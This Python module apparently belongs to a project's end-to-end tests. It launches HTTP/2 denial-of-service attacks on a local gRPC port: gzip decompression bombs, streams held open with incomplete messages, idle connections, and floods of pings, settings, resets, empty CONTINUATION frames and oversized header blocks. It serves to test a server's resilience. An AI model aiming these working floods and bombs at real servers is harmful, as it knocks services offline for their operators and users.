"""Attacks on a gRPC port, frame by frame, as a process of their own: ``python -m tests.e2e.grpc_attacks --help``.

It prints a line of JSON when it holds what it wants to hold, or when its time is over, and ends when its standard input
does. Used by ``test_grpc_attacks.py`` at the size of a test, and by ``benchmarks/attacks.py`` at full size.
"""

import argparse
import gzip
import json
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count, islice
from time import monotonic, sleep
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import H2Error
from hpack import Encoder

METHOD: Final = "/org.cyoda.cloud.api.grpc.CloudEventsService/entityManage"
STREAMING: Final = "/org.cyoda.cloud.api.grpc.CloudEventsService/startStreaming"
MIB: Final = 1024 * 1024

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION, UNKNOWN = 0, 1, 2, 3, 4, 6, 8, 9, 0xEE
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """A frame, whatever sense it makes."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def head(path: str, token: str, **more: str) -> list[tuple[bytes, bytes]]:
    """The headers of a call; no ``token``: anonymous."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "here",
        "te": "trailers",
        "content-type": "application/grpc",
        **({"authorization": f"Bearer {token}"} if token else {}),
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return [(name.encode(), value.encode()) for name, value in headers.items()]


def bomb() -> bytes:
    """A message of 4 KiB that inflates to 4 MiB less a little."""
    body = gzip.compress(bytes(4 * MIB - 64))
    return b"\1" + len(body).to_bytes(4) + body


# What is held.


class Holder:
    """A connection on which calls are begun and never ended, as far as windows allow; ``is_complete``: they are."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.h2.initiate_connection()
        self.sent = 0

    def begin(self, token: str, **headers: str) -> int:
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, head(METHOD, token, **headers))
        return stream

    def push(self, wait_s: float) -> None:
        """Send what is due, and take what comes within so many seconds, and then as long as more follows at once."""
        data = self.h2.data_to_send()
        self.sent += len(data)
        self.socket.settimeout(20)
        self.socket.sendall(data)
        self.socket.settimeout(wait_s)
        with suppress(TimeoutError):
            while octets := self.socket.recv(1 << 16):
                self.h2.receive_data(octets)
                if reply := self.h2.data_to_send():
                    self.socket.sendall(reply)
                self.socket.settimeout(wait_s / 10)


def hold_bombs(holder: Holder, token: str, calls: int, *, is_complete: bool) -> None:
    message = bomb()
    holder.push(0.5)  # and learn what the server grants
    for n in range(calls):
        stream = holder.begin(token, grpc_encoding="gzip")
        holder.h2.send_data(stream, message, end_stream=is_complete)
        if n % 10 == 9:
            holder.push(0.02)
    holder.push(0.5)


def hold_messages(holder: Holder, token: str, calls: int, mib: int) -> None:
    """Messages of 4 MiB, each of which lacks its last octet."""
    holder.push(0.5)
    streams = {holder.begin(token): 0 for _ in range(calls)}
    message = b"\0" + (4 * MIB - 64).to_bytes(4) + bytes(4 * MIB - 65)
    idle = 0
    while idle < 20 and holder.sent < mib * MIB:  # the server may grant a frame at a time
        before = holder.sent
        for stream, at in list(streams.items()):
            try:
                size = min(holder.h2.local_flow_control_window(stream), 16_384, len(message) - at)
                if size > 0:
                    holder.h2.send_data(stream, message[at : at + size])
                    streams[stream] += size
            except H2Error:  # the call was refused
                del streams[stream]
        holder.push(0.02)
        idle = idle + 1 if holder.sent - before < 1000 else 0


# What is flooded with.


def flood_of(octets: bytes, before: bytes = b"") -> Callable[[str], Iterator[bytes]]:
    """The same frame again and again."""

    def chunks(_token: str) -> Iterator[bytes]:
        yield PREFACE + before
        many = octets * max(1, 16_384 // len(octets))
        while True:
            yield many

    return chunks


def calls(
    each: Callable[[int, bytes], bytes], path: str = METHOD, *, with_token: bool = True
) -> Callable[[str], Iterator[bytes]]:
    """Calls, and what is said on each of them: ``each`` of the stream and its headers."""

    def chunks(token: str) -> Iterator[bytes]:
        encoder = Encoder()
        headers = head(path, token if with_token else "")
        first = encoder.encode(headers)
        block = encoder.encode(headers)
        streams = count(1, 2)
        yield PREFACE + each(next(streams), first)
        while True:
            yield b"".join(each(stream, block) for stream in islice(streams, 100))

    return chunks


def an_open_call(token: str) -> bytes:
    return frame(HEADERS, 1, Encoder().encode(head(STREAMING, token)), END_HEADERS)


def opened(flood: bytes) -> Callable[[str], Iterator[bytes]]:
    """A flood beside an open call."""

    def chunks(token: str) -> Iterator[bytes]:
        return flood_of(flood, an_open_call(token))(token)

    return chunks


def long_heads(token: str) -> Iterator[bytes]:
    """Calls with as many headers as they may have, compressed as slowly as can be."""
    encoder = Encoder()
    yield PREFACE
    block = encoder.encode([*head(METHOD, token), *((b"x-%d" % n, b"y" * 400) for n in range(140))])
    parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    for stream in count(1, 2):
        yield b"".join(
            frame(HEADERS if n == 0 else CONTINUATION, stream, part, END_HEADERS if n == len(parts) - 1 else 0)
            for n, part in enumerate(parts)
        ) + frame(RESET, stream, bytes(4))


def endless_heads(_token: str) -> Iterator[bytes]:
    """Headers in frames without a single octet."""
    yield PREFACE + frame(HEADERS, 1, Encoder().encode(head(METHOD, "")))
    while True:
        yield frame(CONTINUATION, 1) * 1000


FLOODS: Final[dict[str, Callable[[str], Iterator[bytes]]]] = {
    "pings": flood_of(frame(PING, 0, bytes(8))),
    "settings": flood_of(frame(SETTINGS, 0)),
    "empty-data": opened(frame(DATA, 1)),
    "one-octet-data": opened(frame(DATA, 1, b"\0")),
    "windows": flood_of(frame(WINDOW, 0, (1).to_bytes(4))),
    "resets": opened(frame(RESET, 1, bytes(4))),
    "priorities": flood_of(frame(PRIORITY, 1, bytes(4) + b"\1")),
    "unknown-frames": flood_of(frame(UNKNOWN, 0)),
    "empty-continuations": endless_heads,
    "calls-that-are-reset": calls(
        lambda stream, block: frame(HEADERS, stream, block, END_HEADERS) + frame(RESET, stream, bytes(4))
    ),
    "calls-without-credentials": calls(
        lambda stream, block: frame(HEADERS, stream, block, END_HEADERS | END_STREAM), with_token=False
    ),
    "calls-of-no-method": calls(
        lambda stream, block: frame(HEADERS, stream, block, END_HEADERS | END_STREAM), "/no.Service/method"
    ),
    "calls-without-message": calls(lambda stream, block: frame(HEADERS, stream, block, END_HEADERS | END_STREAM)),
    "long-heads": long_heads,
    "torn-requests": calls(
        lambda stream, block: (
            frame(HEADERS, stream, block, END_HEADERS) + frame(DATA, stream, b"\0\0\0\1\0abc", END_STREAM)
        )
    ),
}


class Flood:
    """One connection after the other, each until it is cut off."""

    def __init__(self, kind: str, port: int, token: str) -> None:
        self.connections = self.octets = 0
        self._kind, self._port, self._token = kind, port, token

    def run(self, until: float) -> None:
        while monotonic() < until:
            with suppress(OSError), socket.create_connection(("127.0.0.1", self._port), timeout=20) as client:
                self.connections += 1
                threading.Thread(target=discard, args=(client,), daemon=True).start()
                self._send(client, until)
                sleep(0.01)

    def _send(self, client: socket.socket, until: float) -> None:
        for chunk in FLOODS[self._kind](self._token):
            left = until - monotonic()
            if left <= 0:
                return
            client.settimeout(left)  # the server may have stopped reading
            client.sendall(chunk)
            self.octets += len(chunk)


def discard(client: socket.socket) -> None:
    """Read until the connection ends."""
    with suppress(OSError):
        while client.recv(1 << 16):
            pass


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=["bombs", "complete-bombs", "messages", "idle", *FLOODS])
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--calls", type=int, default=300)
    parser.add_argument("--mib", type=int, default=241, help="of messages, in all on one connection")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--token", default="")
    options = parser.parse_args()
    report: dict[str, object] = {}
    held: list[object] = []
    if options.kind in FLOODS:
        floods = [Flood(options.kind, options.port, options.token) for _ in range(options.connections)]
        threads = [threading.Thread(target=each.run, args=(monotonic() + options.seconds,)) for each in floods]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        report["connections"] = sum(each.connections for each in floods)
        report["octets"] = sum(each.octets for each in floods)
    elif options.kind == "idle":
        for _ in range(options.connections):
            with suppress(OSError):
                client = socket.create_connection(("127.0.0.1", options.port), timeout=5)
                client.sendall(PREFACE)
                held.append(client)
        report["connections"] = len(held)
    else:
        holders = [Holder(options.port) for _ in range(options.connections)]
        held += holders
        for holder in holders:
            with suppress(OSError, H2Error):
                if options.kind == "messages":
                    hold_messages(holder, options.token, options.calls, options.mib)
                else:
                    hold_bombs(holder, options.token, options.calls, is_complete=options.kind == "complete-bombs")
        report["octets"] = sum(holder.sent for holder in holders)
    sys.stdout.write(json.dumps(report) + "\n")
    sys.stdout.flush()
    sys.stdin.read()


if __name__ == "__main__":
    main()
